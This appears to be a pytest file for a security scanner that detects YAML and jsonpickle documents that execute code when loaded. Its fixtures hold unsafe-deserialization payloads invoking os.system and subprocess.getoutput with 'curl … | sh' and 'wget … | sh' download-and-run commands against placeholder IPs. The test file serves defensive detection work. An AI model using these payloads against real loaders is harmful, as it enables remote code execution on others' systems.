"""Documents whose loading calls what they name (``_scan._serialized_calls``)."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from caplet._findings import Severity
from caplet._scan._model import ScanMode
from caplet._scan._scanner import scan_source
from caplet._scan._serialized_calls import document_source
from tests._scan.prefilterkit import found_in_a_package


def danger(source: str) -> set[str]:
    findings = scan_source(textwrap.dedent(source), "mod.py", mode=ScanMode.PACKAGE)
    return {f.rule_id for f in findings if f.severity is Severity.DANGER}


#: blind16 (tune b16-ls-yaml-apply, -jsonpickle-reduce): a document literal whose tag
#: calls a process function with a download piped to a shell.
LOADED = [
    "import yaml\n"
    "DOC = 'x: !!python/object/apply:os.system [\"curl -s https://198.51.100.7/i | sh\"]'\n"
    "yaml.unsafe_load(DOC)\n",
    "import yaml\n"
    "yaml.load('''\nrun: !!python/object/apply:subprocess.getoutput\n"
    "  - wget -qO- http://192.0.2.61/p | sh\n''', Loader=yaml.UnsafeLoader)\n",
    "import jsonpickle\n"
    'S = \'{"py/reduce": [{"py/function": "subprocess.getoutput"}, '
    '{"py/tuple": ["wget -qO- http://192.0.2.61/p | sh"]}]}\'\n'
    "jsonpickle.decode(S)\n",
]


@pytest.mark.parametrize("source", LOADED)
def test_a_document_that_calls_a_shell_cradle_when_loaded_is_danger(source: str) -> None:
    assert {"CPL-THR-015", "CPL-THR-016"} <= danger(source)


@pytest.mark.parametrize("source", LOADED)
def test_a_document_that_calls_when_loaded_is_found_with_the_prefilter_too(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, source: str
) -> None:
    found_in_a_package(tmp_path, monkeypatch, source, "CPL-THR-016")


@pytest.mark.parametrize(
    "source",
    [
        # plain configuration, and a tag that builds a value without a process or network
        "import yaml\nCFG = yaml.safe_load('retries: 3\\nhosts: [a, b]')\n",
        "import yaml\nyaml.unsafe_load('p: !!python/object/apply:pathlib.Path [\"/tmp\"]')\n",
        'import jsonpickle\njsonpickle.decode(\'{"py/object": "app.Point", "x": 1}\')\n',
        # a document read at run time: nothing in the file says what it calls
        "import yaml\nwith open('c.yml') as f:\n    yaml.unsafe_load(f)\n",
    ],
)
def test_documents_that_call_nothing_harmful_stay_clean(source: str) -> None:
    assert not danger(source)


def test_a_documents_calls_are_written_back_as_python() -> None:
    assert document_source("yaml.unsafe_load", "a: !!python/object/apply:os.system ['id']") == (
        "import os\nos.system('id')\n"
    )
    assert document_source("jsonpickle.decode", '{"py/reduce": [{"py/function": "os.system"}]}')
    assert document_source("jsonpickle.decode", "not json") is None
    assert document_source("yaml.load", b"a: 1") is None
